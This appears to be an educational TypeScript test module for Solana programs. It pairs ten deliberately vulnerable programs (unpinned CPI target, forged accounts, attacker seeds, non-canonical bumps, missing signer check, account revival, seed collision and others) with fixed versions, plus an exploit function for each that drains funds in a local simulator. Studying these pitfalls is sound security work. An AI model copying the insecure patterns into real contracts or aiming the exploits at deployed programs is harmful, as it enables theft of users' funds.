// Ten mistakes that cost programs their funds, each beside the same program without it. The pairs are as small as they can be;
// `exploit` in each is what an attacker sends, and example.test.ts sees it succeed against the first and fail against the
// second.
import {
  AccountRole,
  type Address,
  createNoopSigner,
  getAddressDecoder,
  getAddressEncoder,
  getProgramDerivedAddress,
  getU64Encoder,
  type Instruction,
  type KeyPairSigner,
} from '@solana/kit';
import { getTransferSolInstruction, SYSTEM_PROGRAM_ADDRESS } from '@solana-program/system';
import { getTransferInstruction, TOKEN_PROGRAM_ADDRESS } from '@solana-program/token';
import type { TransactionOutcome } from 'parhelion';
import {
  type AccountInfo,
  createProgramAddress,
  defineProgram,
  findProgramAddress,
  invoke,
  invokeSigned,
  ProgramError,
  setReturnData,
  type TypeScriptProgram,
} from 'parhelion/program';
import { SOL, type Stage } from '../support/stage.ts';

export const PROGRAM = 'PitfaLL111111111111111111111111111111111111' as Address;
const EVIL = 'EviLToken1111111111111111111111111111111111' as Address;

export interface Pitfall {
  readonly title: string;
  readonly insecure: TypeScriptProgram;
  readonly secure: TypeScriptProgram;
  /** What the attacker sends, and whether it got him what he wanted. */
  readonly exploit: (stage: Stage, attacker: KeyPairSigner, victim: KeyPairSigner) => Promise<Exploit>;
}

export interface Exploit {
  readonly outcome: TransactionOutcome;
  readonly gained: boolean;
}

const encodeKey = (address: Address) => new Uint8Array(getAddressEncoder().encode(address));
const keyAt = (data: Uint8Array, offset = 0) => getAddressDecoder().decode(data, offset);
const r = (address: Address) => ({ address, role: AccountRole.READONLY });
const w = (address: Address) => ({ address, role: AccountRole.WRITABLE });
const s = (signer: KeyPairSigner) => ({ address: signer.address, role: AccountRole.WRITABLE_SIGNER, signer });
const call = (accounts: Instruction['accounts'], data: Uint8Array = new Uint8Array(0)): Instruction => {
  return { programAddress: PROGRAM, accounts: accounts ?? [], data };
};
const pay = (from: AccountInfo, to: AccountInfo, amount: bigint) => {
  return getTransferSolInstruction({ source: createNoopSigner(from.key), destination: to.key, amount });
};
const derive = async (...seeds: (string | Uint8Array)[]) => {
  return (await getProgramDerivedAddress({ programAddress: PROGRAM, seeds }))[0];
};
const PRIZE = SOL;

// #region unpinned-program
/** A shop that is paid by CPI and then hands out a prize, with whatever program it is given as "the Token program". */
const shop = (isPinned: boolean) =>
  defineProgram((_id, [prizes, buyer, from, to, tokenProgram]) => {
    if (isPinned && tokenProgram.key !== TOKEN_PROGRAM_ADDRESS) throw new ProgramError('IncorrectProgramId');
    const transfer = getTransferInstruction({
      source: from.key,
      destination: to.key,
      authority: createNoopSigner(buyer.key),
      amount: 100n,
    });
    invoke({ ...transfer, programAddress: tokenProgram.key }, [from, to, buyer, tokenProgram]);
    prizes.lamports -= PRIZE;
    buyer.lamports += PRIZE;
  });

const unpinnedProgram: Pitfall = {
  title: 'the called program is not pinned',
  insecure: shop(false),
  secure: shop(true),
  async exploit(stage, attacker) {
    stage.svm.addProgram(
      EVIL,
      defineProgram(() => {}),
    ); // says yes, and moves nothing
    const prizes = await derive('prizes');
    stage.account(prizes, PROGRAM, undefined, 10n * SOL);
    const mint = await stage.mint(attacker);
    const from = await stage.tokens(attacker, mint, attacker.address, 0n, 'nothing');
    const outcome = await stage.send(attacker, call([w(prizes), s(attacker), w(from), w(from), r(EVIL)]));
    return { outcome, gained: stage.svm.getBalance(prizes) < 10n * SOL };
  },
};
// #endregion

// #region account-substitution
/** A vault whose first 32 bytes say whose it is. Anybody can make an account with such bytes, but not one of this program. */
const ledger = (isOwnerChecked: boolean) =>
  defineProgram((programId, [vault, record, owner]) => {
    if (isOwnerChecked && record.owner !== programId) throw new ProgramError('InvalidAccountOwner');
    if (keyAt(record.data) !== owner.key || !owner.isSigner) throw new ProgramError('IncorrectAuthority');
    vault.lamports -= PRIZE;
    owner.lamports += PRIZE;
  });

const accountSubstitution: Pitfall = {
  title: 'an account is not what it is taken for',
  insecure: ledger(false),
  secure: ledger(true),
  async exploit(stage, attacker) {
    const vault = await derive('vault');
    stage.account(vault, PROGRAM, undefined, 10n * SOL);
    const forged = (await stage.wallet('forged', 0n)).address;
    stage.account(forged, EVIL, encodeKey(attacker.address));
    const outcome = await stage.send(attacker, call([w(vault), r(forged), s(attacker)]));
    return { outcome, gained: stage.svm.getBalance(vault) < 10n * SOL };
  },
};
// #endregion

// #region seeds-from-attacker
/** Signs for a wallet's savings. Whose, must follow from who has signed, not from what the instruction says. */
const savings = (areSeedsOwn: boolean) =>
  defineProgram((programId, [from, to, owner, system], data) => {
    if (!owner.isSigner) throw new ProgramError('MissingRequiredSignature');
    const seed = areSeedsOwn ? owner.key : keyAt(data);
    const [, bump] = findProgramAddress(['savings', seed], programId);
    invokeSigned(pay(from, to, PRIZE), [from, to, system], [['savings', seed, bump]]);
  });

const seedsFromAttacker: Pitfall = {
  title: 'the seeds come from the attacker',
  insecure: savings(false),
  secure: savings(true),
  async exploit(stage, attacker, victim) {
    const vault = await derive('savings', encodeKey(victim.address));
    stage.account(vault, SYSTEM_PROGRAM_ADDRESS, undefined, 10n * SOL);
    const accounts = [w(vault), w(attacker.address), s(attacker), r(SYSTEM_PROGRAM_ADDRESS)];
    const outcome = await stage.send(attacker, call(accounts, encodeKey(victim.address)));
    return { outcome, gained: stage.svm.getBalance(vault) < 10n * SOL };
  },
};
// #endregion

// #region non-canonical-bump
/** One prize for each wallet: the mark that it was claimed is at ["claim", wallet]. Other bumps give other addresses. */
const giveaway = (isCanonical: boolean) =>
  defineProgram((programId, [prizes, mark, user, system], data) => {
    const seeds = ['claim', user.key];
    const bump = isCanonical ? findProgramAddress(seeds, programId)[1] : data[0];
    if (mark.key !== createProgramAddress([...seeds, bump], programId)) throw new ProgramError('InvalidSeeds');
    if (mark.lamports > 0n) throw new ProgramError('AccountAlreadyInitialized');
    invoke(pay(user, mark, 1_000_000n), [user, mark, system]);
    prizes.lamports -= PRIZE;
    user.lamports += PRIZE;
  });

const nonCanonicalBump: Pitfall = {
  title: 'any bump will do',
  insecure: giveaway(false),
  secure: giveaway(true),
  async exploit(stage, attacker) {
    const prizes = await derive('prizes');
    stage.account(prizes, PROGRAM, undefined, 10n * SOL);
    const seeds = ['claim', encodeKey(attacker.address)];
    const [first, bump] = await getProgramDerivedAddress({ programAddress: PROGRAM, seeds });
    const claim = (mark: Address, with_: number) => {
      const accounts = [w(prizes), w(mark), s(attacker), r(SYSTEM_PROGRAM_ADDRESS)];
      return stage.send(attacker, call(accounts, new Uint8Array([with_])));
    };
    await claim(first, bump);
    const [second, lower] = await lowerBump(stage, attacker, bump);
    const outcome = await claim(second, lower);
    return { outcome, gained: stage.svm.getBalance(prizes) === 8n * SOL };
  },
};

/** The next address of the same seeds; the attacker asks the program, which derives what it is told to. */
async function lowerBump(stage: Stage, attacker: KeyPairSigner, bump: number): Promise<[Address, number]> {
  const scout = 'KeeperA111111111111111111111111111111111111' as Address;
  for (let lower = bump - 1; lower > 0; lower--) {
    const process = defineProgram(() =>
      setReturnData(encodeKey(createProgramAddress(['claim', attacker.address, lower], PROGRAM))),
    );
    stage.svm.addProgram(scout, process);
    const { returnData } = await stage.send(attacker, { programAddress: scout });
    if (returnData !== null) return [keyAt(returnData.data), lower];
  }
  throw new Error('there is no other');
}
// #endregion

// #region missing-signer
/** Checks who the owner is, or also that he agrees. */
const bank = (isSignerChecked: boolean) =>
  defineProgram((_id, [vault, owner, to]) => {
    if (keyAt(vault.data) !== owner.key) throw new ProgramError('IncorrectAuthority');
    if (isSignerChecked && !owner.isSigner) throw new ProgramError('MissingRequiredSignature');
    vault.lamports -= PRIZE;
    to.lamports += PRIZE;
  });

const missingSigner: Pitfall = {
  title: 'nobody asks whether the owner has signed',
  insecure: bank(false),
  secure: bank(true),
  async exploit(stage, attacker, victim) {
    const vault = await derive('vault');
    stage.account(vault, PROGRAM, encodeKey(victim.address), 10n * SOL);
    const outcome = await stage.send(attacker, call([w(vault), r(victim.address), w(attacker.address)]));
    return { outcome, gained: stage.svm.getBalance(vault) < 10n * SOL };
  },
};
// #endregion

// #region invoke-without-seeds
/** Pays a winner out of a PDA. `invoke` has no seeds to sign with: what goes into such a vault never comes out. */
const lottery = (isSigned: boolean) =>
  defineProgram((programId, [vault, winner, system]) => {
    const [, bump] = findProgramAddress(['lottery'], programId);
    const prize = pay(vault, winner, PRIZE);
    if (isSigned) invokeSigned(prize, [vault, winner, system], [['lottery', bump]]);
    else invoke(prize, [vault, winner, system]);
  });

const invokeWithoutSeeds: Pitfall = {
  title: 'invoke where invokeSigned is needed',
  insecure: lottery(false),
  secure: lottery(true),
  async exploit(stage, attacker, winner) {
    const vault = await derive('lottery');
    stage.account(vault, SYSTEM_PROGRAM_ADDRESS, undefined, 10n * SOL);
    const outcome = await stage.send(attacker, call([w(vault), w(winner.address), r(SYSTEM_PROGRAM_ADDRESS)]));
    // Nobody gains: the winner loses.
    return { outcome, gained: stage.svm.getBalance(vault) === 10n * SOL };
  },
};
// #endregion

// #region credit-before-debit
/** Moves lamports by hand around a CPI. The runtime adds up what a call is given: a credit without its debit is too much. */
const teller = (isDebitFirst: boolean) =>
  defineProgram((_id, [vault, user, other, system]) => {
    const tip = pay(user, other, 1_000n);
    if (isDebitFirst) {
      invoke(tip, [user, other, system]);
      vault.lamports -= PRIZE;
      user.lamports += PRIZE;
    } else {
      user.lamports += PRIZE;
      invoke(tip, [user, other, system]); // the vault is no account of the call: its debit is not seen there
      vault.lamports -= PRIZE;
    }
  });

const creditBeforeDebit: Pitfall = {
  title: 'a credit before a CPI, its debit behind it',
  insecure: teller(false),
  secure: teller(true),
  async exploit(stage, attacker, victim) {
    const vault = await derive('vault');
    stage.account(vault, PROGRAM, undefined, 10n * SOL);
    const accounts = [w(vault), s(attacker), w(victim.address), r(SYSTEM_PROGRAM_ADDRESS)];
    const outcome = await stage.send(attacker, call(accounts));
    // Again nobody gains: the program can't pay at all.
    return { outcome, gained: stage.svm.getBalance(vault) === 10n * SOL };
  },
};
// #endregion

// #region stale-account
/** Withdraws tokens, but leaves 100 as a reserve: as the account was when the program last looked, or as it is now. */
const reserve = (isReread: boolean) =>
  defineProgram((programId, [vault, to, owner, tokenProgram], data) => {
    if (tokenProgram.key !== TOKEN_PROGRAM_ADDRESS) throw new ProgramError('IncorrectProgramId');
    const amountOf = (bytes: Uint8Array) => new DataView(bytes.buffer, bytes.byteOffset).getBigUint64(64, true);
    const amount = new DataView(data.buffer, data.byteOffset).getBigUint64(0, true);
    const before = amountOf(vault.data); // a copy, as Anchor's accounts are until `reload()`
    const [, bump] = findProgramAddress(['owner'], programId);
    const authority = createNoopSigner(owner.key);
    const withdraw = getTransferInstruction({ source: vault.key, destination: to.key, authority, amount });
    invokeSigned(withdraw, [vault, to, owner, tokenProgram], [['owner', bump]]);
    const left = isReread ? amountOf(vault.data) : before;
    if (left < 100n) throw new ProgramError('InsufficientFunds');
  });

const staleAccount: Pitfall = {
  title: 'an account is read before a CPI and believed after it',
  insecure: reserve(false),
  secure: reserve(true),
  async exploit(stage, attacker) {
    const owner = await derive('owner');
    const mint = await stage.mint(attacker);
    const vault = await stage.tokens(attacker, mint, owner, 1_000n, 'vault');
    const to = await stage.tokens(attacker, mint, attacker.address, 0n, 'loot');
    const accounts = [w(vault), w(to), r(owner), r(TOKEN_PROGRAM_ADDRESS)];
    const outcome = await stage.send(attacker, call(accounts, new Uint8Array(getU64Encoder().encode(1_000n))));
    return { outcome, gained: stage.tokenBalance(to) === 1_000n };
  },
};
// #endregion

// #region revival
/** Pays a voucher and closes it. Without lamports an account goes when the transaction ends, and not before. */
const voucher = (isCleared: boolean) =>
  defineProgram((programId, [prizes, ticket, user]) => {
    if (ticket.owner !== programId || ticket.data[0] !== 1) throw new ProgramError('UninitializedAccount');
    prizes.lamports -= PRIZE;
    user.lamports += PRIZE + ticket.lamports;
    ticket.lamports = 0n;
    if (!isCleared) return; // data and owner are still there: one lamport brings it back
    ticket.data.fill(0);
    ticket.assign(SYSTEM_PROGRAM_ADDRESS);
    ticket.resize(0);
  });

const revival: Pitfall = {
  title: 'closed, but not cleared: it is revived',
  insecure: voucher(false),
  secure: voucher(true),
  async exploit(stage, attacker) {
    const prizes = await derive('prizes');
    stage.account(prizes, PROGRAM, undefined, 10n * SOL);
    const ticket = (await stage.wallet('ticket', 0n)).address;
    stage.account(ticket, PROGRAM, new Uint8Array([1]));
    const claim = call([w(prizes), w(ticket), s(attacker)]);
    const revive = getTransferSolInstruction({ source: attacker, destination: ticket, amount: SOL });
    const outcome = await stage.send(attacker, claim, revive, claim);
    return { outcome, gained: stage.svm.getBalance(prizes) === 8n * SOL };
  },
};
// #endregion

// #region colliding-seeds
/** A vault for each pool and item. Seeds are joined before they are hashed: "gold" + "bar" is "gol" + "dbar". */
const pools = (areSeedsApart: boolean) =>
  defineProgram((programId, [vault, record, owner, to, system], data) => {
    // A pool's record: its owner, then its name. It stands at an address that its name alone decides.
    const name = new TextDecoder().decode(record.data.subarray(32));
    if (record.owner !== programId || keyAt(record.data) !== owner.key || !owner.isSigner) {
      throw new ProgramError('IncorrectAuthority');
    }
    const item = new TextDecoder().decode(data);
    // The record's address has 32 bytes whatever its name is, so that nothing can slide from one seed to the next.
    const seeds = areSeedsApart ? [record.key, item] : [name, item];
    const [, bump] = findProgramAddress(seeds, programId);
    invokeSigned(pay(vault, to, PRIZE), [vault, to, system], [[...seeds, bump]]);
  });

const collidingSeeds: Pitfall = {
  title: 'seeds of changing length collide',
  insecure: pools(false),
  secure: pools(true),
  async exploit(stage, attacker, victim) {
    const text = (value: string) => new TextEncoder().encode(value);
    const recordOf = async (owner: Address, name: string) => {
      const record = await derive('pool', text(name));
      stage.account(record, PROGRAM, new Uint8Array([...encodeKey(owner), ...text(name)]));
      return record;
    };
    const victims = await recordOf(victim.address, 'gold');
    const own = await recordOf(attacker.address, 'gol');
    // The victim's vault for "bar", as each of the two programs derives it.
    const vaults = [await derive('gold', 'bar'), await derive(encodeKey(victims), 'bar')];
    for (const vault of vaults) stage.account(vault, SYSTEM_PROGRAM_ADDRESS, undefined, 10n * SOL);
    const send = (vault: Address) => {
      const accounts = [w(vault), r(own), s(attacker), w(attacker.address), r(SYSTEM_PROGRAM_ADDRESS)];
      return stage.send(attacker, call(accounts, text('dbar')));
    };
    const outcomes = [await send(vaults[0]), await send(vaults[1])];
    const index = vaults.findIndex((vault) => stage.svm.getBalance(vault) < 10n * SOL);
    return { outcome: outcomes[Math.max(0, index)], gained: index >= 0 };
  },
};
// #endregion

export const PITFALLS: readonly Pitfall[] = [
  unpinnedProgram,
  accountSubstitution,
  seedsFromAttacker,
  nonCanonicalBump,
  missingSigner,
  invokeWithoutSeeds,
  creditBeforeDebit,
  staleAccount,
  revival,
  collidingSeeds,
];
